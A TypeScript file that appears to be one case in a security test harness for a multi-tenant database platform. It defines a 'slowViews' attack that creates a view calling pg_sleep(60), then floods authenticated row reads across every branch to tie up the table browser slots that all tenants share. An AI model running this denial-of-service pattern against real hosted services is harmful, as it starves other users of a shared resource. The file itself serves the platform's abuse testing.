import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.ts';

const REQUESTS_PER_BRANCH = 8;

/**
 * Reads of a view that sleeps: each holds a slot of the table browser, which all tenants of the host share.
 */
export const slowViews: Attack = {
  row: 13,
  login: 'owner',
  setUp: 'create view slow as select 1 as id from pg_sleep(60)',
  branches: 3,
  run: async ({ api, repeat, count, goesOn }) => {
    const [project] = api.projects;
    if (!project) return;
    const read = async (branch: string) => {
      const path = `/api/v1/projects/${project.id}/branches/${branch}/tables/slow/rows`;
      const headers = { authorization: `Bearer ${api.token}` };
      const response = await fetch(`${api.url}${path}`, { headers, signal: AbortSignal.timeout(30_000) });
      await response.text();
      count(`status ${response.status}`);
    };
    const all = ['main', ...project.branches].flatMap((branch) =>
      Array.from({ length: REQUESTS_PER_BRANCH }, () => repeat(() => read(branch), 100)),
    );
    const over = async () => {
      while (goesOn()) await sleep(50);
    };
    await Promise.race([Promise.all(all), over()]);
  },
  revocation: 'deletion',
  isByApi: true,
};
